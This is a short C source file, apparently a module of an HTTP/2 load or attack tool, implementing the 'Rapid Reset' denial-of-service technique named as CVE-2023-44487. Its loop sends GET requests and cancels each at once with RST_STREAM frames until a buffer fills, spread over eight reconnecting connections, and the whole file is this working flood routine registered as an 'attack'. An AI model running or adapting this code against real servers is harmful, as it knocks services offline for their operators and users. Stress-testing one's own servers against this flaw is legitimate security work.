/* SPDX-License-Identifier: Apache-2.0 */
/* CVE-2023-44487: requests that are cancelled in the same breath. */
#include "attack.h"

#define CANCEL 8

static bool turn(client *c)
{
    while (c->out_size < FLOOD) {
        put_number_frame(c, RST_STREAM, put_request(c, "GET", END_HEADERS | END_STREAM), CANCEL);
    }
    return true;
}

const attack rapid_reset = {
    .name = "rapid-reset",
    .help = "requests, each cancelled at once (CVE-2023-44487)",
    .carriage = CARRY_H2,
    .connections = 8,
    .reconnects = true,
    .turn = turn,
};
